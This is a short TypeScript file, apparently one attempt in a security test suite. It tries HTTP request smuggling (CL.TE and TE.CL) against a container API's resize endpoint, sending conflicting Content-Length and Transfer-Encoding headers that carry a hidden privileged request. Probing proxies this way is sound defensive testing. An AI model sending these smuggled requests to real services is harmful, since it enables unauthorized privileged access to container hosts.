import { type Attempt, type Reply, privileged, request, v } from './book';

export const attempt: Attempt = {
  title: 'give a length, and chunks as well',
  source: 'request smuggling: CL.TE and TE.CL',
  async try(world) {
    const chunked = `2\r\n{}\r\n0\r\n\r\n`;
    const hidden = privileged(world);
    const send = (list: readonly string[],
      body: Buffer | string): Promise<Reply> => world.send(request(`POST ${v}/containers/${world.own.container.id}/resize?h=1&w=1 HTTP/1.1`,
      [`Host: ${world.address}`, ...list], body));
    return [
      await send(['Content-Length: 4', 'Transfer-Encoding: chunked'], chunked), await send(['Transfer-Encoding: chunked',
        'Content-Length: 4'], chunked), await send(['Content-Length: 5', 'Transfer-Encoding: chunked'],
        Buffer.concat([Buffer.from('0\r\n\r\n'), hidden])),
      await send([`Content-Length: ${hidden.length + 5}`, 'Transfer-Encoding: chunked'], Buffer.concat([Buffer.from('0\r\n\r\n'), hidden])),
        await send(['Content-Length: 0', 'Transfer-Encoding: chunked'], Buffer.concat([Buffer.from('0\r\n\r\n'), hidden])),
    ];
  },
};
